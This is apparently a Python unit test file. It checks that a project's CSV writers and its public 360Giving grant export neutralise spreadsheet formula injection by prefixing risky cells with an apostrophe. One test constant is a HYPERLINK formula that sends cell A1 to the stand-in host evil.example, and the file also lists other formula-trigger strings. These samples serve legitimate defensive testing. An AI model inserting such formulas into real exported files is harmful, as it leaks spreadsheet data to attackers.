"""Every CSV the project writes neutralises formula cells (issue 14, finding 8): the shared
writers, and the public 360Giving CSV built on them."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from services.gateway.opendata import threesixtygiving
from services.gateway.spreadsheet import SafeDictWriter, SafeWriter, safe_cell
from tests.unit.opendata.opendata_sample import sample

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-1+2", "'-1+2"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-", "'-"),
        ("-5", "-5"),
        ("-0.05", "-0.05"),
        ("12345.67", "12345.67"),
        ("Family hubs", "Family hubs"),
        (None, ""),
        (-500, "-500"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_and_numbers_are_left_alone(
    value: object, written: str
) -> None:
    assert safe_cell(value) == written


def test_both_writers_neutralise_every_cell_and_keep_csv_quoting() -> None:
    rows, by_name = io.StringIO(), io.StringIO()
    SafeWriter(rows).writerow(["=1+1", 'say "hi", then'])
    writer = SafeDictWriter(by_name, ["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "@x", "b": None})
    assert rows.getvalue() == '\'=1+1,"say ""hi"", then"\r\n'
    assert by_name.getvalue() == "a,b\r\n'@x,\r\n"


def test_the_public_360giving_csv_neutralises_a_formula_in_a_purpose() -> None:
    data = sample()
    first, *rest = data.allocations
    poisoned = dataclasses.replace(
        data, allocations=(dataclasses.replace(first, purpose=HYPERLINK), *rest)
    )
    text = threesixtygiving.csv_text(threesixtygiving.csv_rows(poisoned))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
